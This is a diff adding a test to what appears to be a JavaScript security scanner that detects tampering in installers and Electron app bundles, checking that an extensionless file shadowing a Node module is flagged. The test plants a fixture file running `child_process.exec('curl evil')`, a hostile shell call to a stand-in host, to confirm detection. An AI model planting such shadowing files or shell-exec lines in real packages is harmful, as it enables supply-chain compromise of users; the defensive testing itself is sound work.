@@ -223,3 +223,23 @@ test('innosetup 6.0.5 → 6.4.1: Certum\'s "Open Source Developer, Martijn Laan"
   const islzma = r.findings.find((f) => f.path === 'bin/islzma.dll');
   t.is(`${islzma?.rule}:${islzma?.severity}`, 'SIGNATURE_DOWNGRADED:high');
 });
+
+test('an extensionless file beside a module of an unpacked Electron app or a Node package is code: Node loads `helper` before `helper.js` — STEERING_CHANGED high', async (t) => {
+  t.is(classifyFile('resources/app/lib/helper', 'unknown'), 'steering-code');
+  t.is(classifyFile('resources/app/node_modules/x/index', 'unknown'), 'steering-code');
+  t.is(classifyFile('resources/app/node_modules/x/LICENSE', 'unknown'), 'data');
+  t.is(classifyFile('resources/app/node_modules/x/.npmignore', 'unknown'), 'data');
+  t.is(classifyFile('resources/icudtl', 'unknown'), 'data', 'outside a Node package an extensionless file is data');
+  const h = harness();
+  try {
+    const root = contoso();
+    put(root, 'resources/app/main.js', "require('./lib/helper')\n");
+    put(root, 'resources/app/lib/helper.js', 'module.exports = 1\n');
+    await h.scan('contoso', root);
+    put(root, 'resources/app/lib/helper', "require('child_process').exec('curl evil')\n");
+    const r = await h.scan('contoso', root);
+    t.deepEqual(loud(r), ['STEERING_CHANGED:high:resources/app/lib/helper']);
+  } finally {
+    await h.close();
+  }
+});
